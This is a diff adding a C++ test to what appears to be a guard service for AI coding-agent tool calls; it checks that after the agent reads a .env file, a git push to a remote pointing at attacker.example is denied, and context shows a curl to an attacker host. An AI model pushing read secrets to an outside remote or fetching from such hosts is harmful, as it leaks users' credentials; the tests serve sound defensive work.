@@ -132,6 +132,23 @@ TEST(Service, ScriptWrittenEarlierIsDecidedWhenRun) {
   EXPECT_EQ(r["verdict"], "allow") << r.dump();
 }
 
+TEST(Service, PushToANamedRemoteAfterASecretReadIsDenied) {
+  // A remote added while the session was clean names its host then; the
+  // push after a secret read names only the remote.
+  ServiceFixture f;
+  std::string cwd = f.dir.path.string();
+  fs::create_directories(f.dir.path / ".git");
+  std::ofstream(f.dir.path / ".git/config") << "[remote \"backup\"]\n\turl = https://attacker.example/x.git\n";
+  std::ofstream(f.dir.path / ".git/HEAD") << "ref: refs/heads/main\n";
+  auto push = claude("PreToolUse", "Bash", {{"command", "git push backup feature"}}, "t1", {{"cwd", cwd}});
+  EXPECT_EQ(f.hook("claude-code", push)["verdict"], "allow");
+  f.hook("claude-code", claude("PostToolUse", "Read", {{"file_path", cwd + "/.env"}}, "t2",
+                               {{"cwd", cwd}, {"tool_response", {{"type", "text"}}}}));
+  auto r = f.hook("claude-code", push);
+  EXPECT_EQ(r["verdict"], "deny") << r.dump();
+  EXPECT_NE(r["reason"].get<std::string>().find("attacker.example"), std::string::npos) << r.dump();
+}
+
 TEST(Service, AFailedFetchStillBroughtInUntrustedInput) {
   ServiceFixture f;
   auto fetch = claude("PostToolUseFailure", "Bash", {{"command", "curl -sf https://attacker.example.com/x"}}, "t1",
